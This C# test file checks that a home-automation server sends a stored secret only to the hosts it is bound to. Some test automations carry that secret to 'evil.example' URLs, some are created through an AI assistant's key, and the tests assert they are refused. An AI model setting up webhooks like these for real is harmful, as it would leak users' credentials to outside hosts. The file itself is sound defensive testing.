using System.Net;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using System.Threading.Channels;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;
using NodaTime;
using RingActors.Api.Access;
using RingActors.Api.CommandLine;
using RingActors.Api.Instance;
using RingActors.Api.Outgoing;
using RingActors.Api.Settings.Areas;
using RingActors.Api.Tests.Support;
using RingActors.Devices.Domain.Keys;
using RingActors.Engine.Runtime.Homes;
using RingActors.Engine.Runtime.Outbox;
using RingActors.Rules.Runs;
using static RingActors.Api.Tests.Access.KeyTests;

namespace RingActors.Api.Tests.Outgoing;

/// <summary>
/// A secret goes to the hosts that it is bound to and nowhere else (docs/adr/0020). The receiver is one program under two
/// names, 127.0.0.1 and localhost: only the name makes the difference.
/// </summary>
public sealed class SecretHostTests : IDisposable
{
    private const string Canary = "Bearer canary-7f3c-91d2";
    private const string Refused = "webhook.bind-the-secret";
    private const string Create = "/tools/create_security_automation";
    private const string Change = "/tools/change_automation";

    private static readonly Instant Now = Instant.FromUtc(2026, 3, 1, 20, 0);
    private static readonly Dictionary<string, string> Named = new() { ["X-Key"] = "secret:hook" };

    private readonly string _data = Directory.CreateTempSubdirectory("ringactors-").FullName;
    private readonly StringWriter _output = new();
    private readonly StringWriter _errors = new();

    public void Dispose()
    {
        _output.Dispose();
        _errors.Dispose();
        Directory.Delete(_data, recursive: true);
    }

    [Theory]
    [InlineData("127.0.0.1", true, false)]
    [InlineData("LOCALHOST", false, true)]
    [InlineData("localhost.", false, true)]
    [InlineData("127.0.0.1:1", false, false)]
    [InlineData("*", true, true)]
    [InlineData("example.org", false, false)]
    [InlineData("0.1", false, false)]
    public async Task It_is_sent_to_the_hosts_that_it_is_bound_to_and_nowhere_else(string host, bool byNumber, bool byName)
    {
        await using Receiver receiver = await Receiver.StartAsync();
        Assert.Empty(new SecretStore(_data, AccessKey.Open(_data)).Set("hook", Canary, Now, [host]));
        using WebhookSender sender = Sender();
        foreach ((string name, bool goes) in new[] { ("127.0.0.1", byNumber), ("localhost", byName) })
        {
            EffectResult result = await PostAsync(sender, receiver.Url(name));
            if (goes)
            {
                Assert.Equal(EffectVerdict.Delivered, result.Verdict);
                Assert.Equal(Canary, await receiver.NextAsync());
            }
            else
            {
                Assert.Equal((EffectVerdict.Rejected, Refused), (result.Verdict, result.Code));
                Assert.Contains(name, result.Detail, StringComparison.Ordinal);
            }
        }

        Assert.Equal(0, receiver.Waiting);
    }

    [Fact]
    public async Task A_receiver_that_sends_elsewhere_does_not_send_the_secret_there()
    {
        await using Receiver receiver = await Receiver.StartAsync();
        new SecretStore(_data, AccessKey.Open(_data)).Set("hook", Canary, Now, ["127.0.0.1"]);
        using WebhookSender sender = Sender();
        EffectResult result = await PostAsync(sender, receiver.Url("127.0.0.1", "/elsewhere"));
        Assert.Equal((EffectVerdict.Rejected, "http.307"), (result.Verdict, result.Code));
        Assert.Equal(Canary, await receiver.NextAsync());
        Assert.Equal(0, receiver.Waiting);
    }

    [Fact]
    public async Task Nobody_can_write_an_automation_that_would_send_it_elsewhere_and_nobody_is_asked_to_approve_one()
    {
        await using HomeServer server = await HomeServer.StartAsync();
        Bind(server, "nas.example");
        using HttpClient claude = server.As(await server.KeyAsync("claude", AccessRole.Assistant));
        foreach (HttpClient caller in new[] { claude, server.Http })
        {
            Is(Refused, await SendAsync(caller, HttpMethod.Post, Create, Rule("Theft", "https://evil.example/x")));
            Is(Refused, await SendAsync(
                caller, HttpMethod.Post, Create, Rule("Draft", "https://nas.example.evil.example/x", enabled: false)));
            Is(Refused, await SendAsync(
                caller, HttpMethod.Post, $"/api/v1/homes/{HomeServer.Home}/automations",
                """{"format":"ringactors-automations","automations":[{"document":DOC}]}"""
                    .Replace("DOC", Document("Set", "https://evil.example/x"), StringComparison.Ordinal)));
        }

        Assert.Empty((await SendAsync(claude, HttpMethod.Post, "/tools/get_approvals", "{}")).Json["approvals"]!.AsArray());
        Assert.Equal(HttpStatusCode.OK, (await SendAsync(server.Http, HttpMethod.Post, Create, Rule("Nas", "https://NAS.example:8443/x"))).Status);
        Is(Refused, await SendAsync(server.Http, HttpMethod.Post, Change, """
            {"automation_id":"nas","action":"update","patch":{"actions":[{"type":"webhook","url":"https://evil.example/x","headers":{"X-Key":"secret:hook"}}]}}
            """));
    }

    [Fact]
    public async Task What_goes_on_is_not_held_up_by_a_secret_that_was_bound_since_and_says_what_it_does_not_send()
    {
        await using Receiver receiver = await Receiver.StartAsync();
        await using HomeServer server = await HomeServer.StartAsync(("Webhooks:AllowHosts", "127.0.0.1"));
        Bind(server, "127.0.0.1");
        Assert.Equal(
            HttpStatusCode.OK,
            (await SendAsync(server.Http, HttpMethod.Post, Create, Rule("Nas", receiver.Url("127.0.0.1")))).Status);
        await server.MotionAsync();
        Assert.Equal(Canary, await receiver.NextAsync());

        Bind(server, "nas.example");
        (HttpStatusCode status, JsonObject patched) = await SendAsync(
            server.Http, HttpMethod.Post, Change, """{"automation_id":"nas","action":"update","patch":{"max_lateness_seconds":60}}""");
        Assert.True(status == HttpStatusCode.OK, patched.ToJsonString());
        Assert.Contains("not bound to 127.0.0.1", patched["warnings"]!.ToJsonString(), StringComparison.Ordinal);
        await server.MotionAsync();
        Assert.NotNull(await server.Service<IHomes>().WaitForAsync(
            HomeServer.Home, v => v.Part<RulesView>().Rules["nas"].LastRun?.LastNote?.Contains(Refused, StringComparison.Ordinal) == true, Waits.Limit));
        Assert.Equal(0, receiver.Waiting);

        Assert.Equal(
            HttpStatusCode.OK,
            (await SendAsync(server.Http, HttpMethod.Post, Change, """{"automation_id":"nas","action":"disable"}""")).Status);
        Is(Refused, await SendAsync(server.Http, HttpMethod.Post, Change, """{"automation_id":"nas","action":"enable"}"""));
    }

    /// <summary>One of a version that did not ask for hosts goes where a person lets it go.</summary>
    [Fact]
    public async Task One_without_a_host_is_sent_where_a_person_says_and_not_where_a_key_does_that_is_let_do_all()
    {
        await using HomeServer server = await HomeServer.StartAsync();
        SetAsBefore(server.Paths.Directory);
        using HttpClient claude = server.As(await server.KeyAsync("claude", AccessRole.Assistant));
        (HttpStatusCode status, JsonObject waits) = await SendAsync(
            claude, HttpMethod.Post, Create, Rule("Asked", "https://nas.example/x"));
        Assert.True(status == HttpStatusCode.Accepted, waits.ToJsonString());
        Assert.Contains(
            "To nas.example it sends the secret \"hook\" in the header X-Key", (string?)waits["approval"]!["effect"], StringComparison.Ordinal);

        await SendAsync(server.Http, HttpMethod.Put, "/keys/claude/allowances/rules", """{"allowance":"allow"}""");
        Is(Refused, await SendAsync(claude, HttpMethod.Post, Create, Rule("Own", "https://evil.example/x")));
        Assert.Equal(HttpStatusCode.OK, (await SendAsync(server.Http, HttpMethod.Post, Create, Rule("Pats", "https://nas.example/x"))).Status);
        Is(Refused, await SendAsync(claude, HttpMethod.Post, Change, """{"automation_id":"pats","action":"copy","new_name":"Copy"}"""));

        Assert.Equal(ExitCodes.Ok, await Command("").BindAsync(new SecretsOptions(server.Data) { Hosts = ["nas.example"] }, "hook"));
        Assert.Equal(HttpStatusCode.OK, (await SendAsync(claude, HttpMethod.Post, Create, Rule("Own", "https://nas.example/x"))).Status);
        Is(Refused, await SendAsync(claude, HttpMethod.Post, Create, Rule("Other", "https://evil.example/x")));
        Assert.Equal(Canary, new SecretStore(server.Paths.Directory, AccessKey.Open(server.Paths.Directory)).Find("hook")?.Value);
    }

    [Fact]
    public async Task The_command_line_asks_for_a_host_and_keeps_it_when_the_value_changes()
    {
        SecretsOptions here = new(_data, Demo: true);
        Assert.Equal(ExitCodes.Usage, await Command(Canary + "\n").SetAsync(here, "hook"));
        Assert.Contains("add --host HOST, or --any-host", _errors.ToString(), StringComparison.Ordinal);
        Assert.DoesNotContain("Value of", _output.ToString(), StringComparison.Ordinal);
        Assert.Equal(ExitCodes.Usage, await Command(Canary + "\n").SetAsync(here with { Hosts = ["https://nas.example/"] }, "hook"));
        Assert.Contains("A host must be a name or an address", _errors.ToString(), StringComparison.Ordinal);
        Assert.Equal(ExitCodes.Failed, await Command("").BindAsync(here with { AnyHost = true }, "hook"));

        Assert.Equal(ExitCodes.Ok, await Command(Canary + "\n").SetAsync(here with { Hosts = ["nas.example", "[fd00::20]:8443"] }, "hook"));
        Assert.Equal(ExitCodes.Ok, await Command("another\n").SetAsync(here, "hook"));
        Assert.Equal(ExitCodes.Ok, await Command("").ListAsync(here));
        Assert.Contains(", for nas.example, [fd00::20]:8443", _output.ToString(), StringComparison.Ordinal);
        Assert.Equal(ExitCodes.Usage, await Command("").BindAsync(here, "hook"));
    }

    private static void Is(string code, (HttpStatusCode Status, JsonObject Json) answer) => Assert.True(
        answer.Json.ToJsonString().Contains(code, StringComparison.Ordinal), $"{answer.Status} {answer.Json.ToJsonString()}");

    private static void Bind(HomeServer server, string host) => Assert.Empty(
        new SecretStore(server.Paths.Directory, AccessKey.Open(server.Paths.Directory)).Set("hook", Canary, Now, [host]));

    private static string Rule(string name, string url, bool enabled = true) => $$$"""
        {"automation_name":"{{{name}}}","enabled":{{{(enabled ? "true" : "false")}}},"rule_document":{{{Document(null, url)}}}}
        """;

    private static string Document(string? name, string url) => $$$"""
        {{{{(name is null ? "" : $"\"name\":\"{name}\",")}}}"triggers":[{"type":"motion"}],
         "actions":[{"type":"webhook","url":"{{{url}}}","headers":{"X-Key":"secret:hook"}}]}
        """;

    /// <summary>The file as versions before wrote it.</summary>
    private static void SetAsBefore(string directory)
    {
        byte[] format = "ringactors secrets 1\n"u8.ToArray();
        byte[] plain = Encoding.UTF8.GetBytes($$$"""{"hook":{"value":"{{{Canary}}}","changed_at":17723520000000000}}""");
        byte[] nonce = RandomNumberGenerator.GetBytes(12);
        byte[] hidden = new byte[plain.Length];
        byte[] tag = new byte[16];
        using AesGcm aes = new(AccessKey.Open(directory).SecretsKey, tag.Length);
        aes.Encrypt(nonce, plain, hidden, tag, format);
        File.WriteAllBytes(Path.Combine(directory, SecretStore.FileName), [.. format, .. nonce, .. hidden, .. tag]);
    }

    private static Task<EffectResult> PostAsync(WebhookSender sender, string url) =>
        sender.PostAsync(url, "{}"u8.ToArray(), Named, "key", PostKind.Ordinary, default);

    private SecretsCommand Command(string typed) => new(new StringReader(typed), _output, _errors, _ => null, TimeProvider.System);

    private WebhookSender Sender()
    {
        WebhookSettings settings = new() { AllowHosts = ["127.0.0.1", "localhost"] };
        return new WebhookSender(
            settings, new WebhookAddresses(settings), new SecretStore(_data, AccessKey.Open(_data)),
            new OutgoingCircuits(TimeProvider.System), TimeProvider.System);
    }

    /// <summary>Takes every post, and keeps the header that should not be with strangers.</summary>
    private sealed class Receiver(WebApplication app) : IAsyncDisposable
    {
        private readonly Channel<string> _arrived = Channel.CreateUnbounded<string>();

        internal int Waiting => _arrived.Reader.Count;

        internal static async Task<Receiver> StartAsync()
        {
            WebApplicationBuilder builder = WebApplication.CreateSlimBuilder();
            builder.Logging.ClearProviders();
            builder.WebHost.ConfigureKestrel(k => k.Listen(IPAddress.Loopback, 0));
            WebApplication app = builder.Build();
            Receiver receiver = new(app);
            app.MapPost("/{path}", (HttpContext context) =>
            {
                receiver._arrived.Writer.TryWrite(context.Request.Headers["X-Key"].ToString());
                return context.Request.Path == "/elsewhere"
                    ? Results.Redirect(receiver.Url("localhost"), preserveMethod: true) : Results.NoContent();
            });
            await app.StartAsync();
            return receiver;
        }

        internal string Url(string host, string path = "/hook") => new UriBuilder(
            app.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses.First())
        {
            Host = host,
            Path = path,
        }.ToString();

        internal async Task<string> NextAsync()
        {
            using CancellationTokenSource late = new(Waits.Limit);
            return await _arrived.Reader.ReadAsync(late.Token);
        }

        public ValueTask DisposeAsync() => app.DisposeAsync();
    }
}
